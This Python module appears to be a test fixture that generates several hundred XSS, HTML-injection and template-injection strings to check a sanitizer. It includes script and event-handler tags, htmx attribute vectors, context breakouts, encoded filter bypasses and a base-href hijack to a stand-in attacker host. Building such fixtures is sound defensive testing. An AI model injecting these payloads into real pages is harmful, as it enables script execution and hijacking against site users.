"""Texts that want to become a script, a picture, a form or a request, and the same for every place they may land in."""

from __future__ import annotations

import itertools

# What each would do if it ran: tell the page that it did. A request it makes goes to /ran, which nothing of ours asks for.
RUN = "window.ran=1"
TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=/ran></script>", "<img src=/ran onerror={0}>",
    "<img src=x:x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<body onload={0}>",
    "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video src=/ran onerror={0}></video>",
    "<iframe src=/ran></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>", "<object data=/ran></object>",
    "<embed src=/ran>", "<link rel=stylesheet href=/ran>", "<meta http-equiv=refresh content='0;url=/ran'>",
    "<base href=//evil.example>", "<form action=/ran><button autofocus>x</button></form>", "<a href='javascript:{0}'>x</a>",
    "<math><mtext><img src=/ran onerror={0}>", "<template><img src=/ran></template>", "<style>@import'/ran'</style>",
    "<p style=\"background:url(/ran)\">", "<marquee onstart={0}>", "<select autofocus onfocus={0}>", "<audio src=/ran onerror={0}>",
    "<div hx-get=/ran hx-trigger=load></div>", "<div data-hx-get=/ran data-hx-trigger=load></div>",
    "<b hx-on:load='{0}' hx-trigger=load hx-post=/ran>", "<div hx-on::load='{0}'>", "<i hx-vals='js:x={0}' hx-get=/ran hx-trigger=load>",
    "<div hx-ext=x hx-swap-oob=true id=main>gone</div>", "<div hx-disinherit=* hx-boost=true>", "<a hx-trigger='load[{0}]' hx-get=/ran>",
)  # fmt: skip
BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "--><!--",
    "</option></select>",
    "]]>",
    "\x0c/>",
    "`>",
    "</dd></dl>",
)
OTHERS = (
    "\" onfocus={0} autofocus x=\"", "' onmouseover={0} '", "\" hx-get=\"/ran\" hx-trigger=\"load", "' hx-get='/ran' hx-trigger='load",
    "javascript:{0}", "{{{{7*7}}}}", "{{{{config}}}}", "{{% raw %}}", "${{{0}}}", "#{{{0}}}", "<%= 7*7 %>", "%3Cscript%3E{0}%3C/script%3E",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}", "\\u003cscript\\u003e{0}", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<<script>{0}//<</script>", "<img src=\"/ran\"onerror={0}//", "</p><plaintext>",
    "<!--", "<![CDATA[", "<textarea>", "<xmp>", "<noscript><p title=\"</noscript><img src=/ran onerror={0}>\">",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """About five hundred, the plain ones first, each once."""
    made = [text.format(RUN) for text in (*TAGS, *OTHERS)]
    made += [before + tag.format(RUN) for before, tag in itertools.product(BREAKS[1:], TAGS)]
    made += [before + other.format(RUN) for before, other in itertools.product(BREAKS[1:5], OTHERS[:14])]
    return list(dict.fromkeys(made))
